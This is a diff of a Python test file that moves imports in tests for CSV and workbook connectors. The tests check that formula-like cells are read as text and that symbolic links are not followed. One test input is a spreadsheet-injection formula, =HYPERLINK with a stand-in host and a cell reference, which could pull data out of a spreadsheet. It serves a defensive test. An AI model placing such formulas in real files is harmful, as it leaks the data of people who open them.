@@ -315,7 +315,7 @@ def test_hostile_csv_files_are_refused_whole_under_512_mib(
 def test_formula_like_cells_in_a_csv_are_read_as_text(tmp_path: Path) -> None:
     """Read side of the rule 'cells that begin with = + - @ are data': the reader takes them as the
     text they are (the export side is tested in test_formula_injection)."""
-    from baocao.connectors.spreadsheets import read_petition_csv
+    from baocao.connectors.petition_csv import read_petition_csv
 
     text = PETITION_HEADER + '=HYPERLINK("http://x/?"&A1);@SUM(1);01/02/2026;;;1\n'
     result = read_petition_csv(text.encode("utf-8"), name="p.csv")
@@ -333,7 +333,9 @@ def test_the_raw_zip_writer_writes_ordinary_archives_when_it_does_not_lie(tmp_pa
 
 def test_links_in_a_drop_folder_are_not_followed(tmp_path: Path) -> None:
     """A symbolic link could point at any file the pipeline may read: only regular files are read."""
-    from baocao.connectors.spreadsheets import SpreadsheetError, read_commune_csv, read_ict_workbook
+    from baocao.connectors.commune_csv import read_commune_csv
+    from baocao.connectors.tabular import SpreadsheetError
+    from baocao.connectors.workbooks import read_ict_workbook
 
     secret = tmp_path / "elsewhere.csv"
     secret.write_text(COMMUNE_HEADER + SECRET_MARKER + "\n", encoding="utf-8")
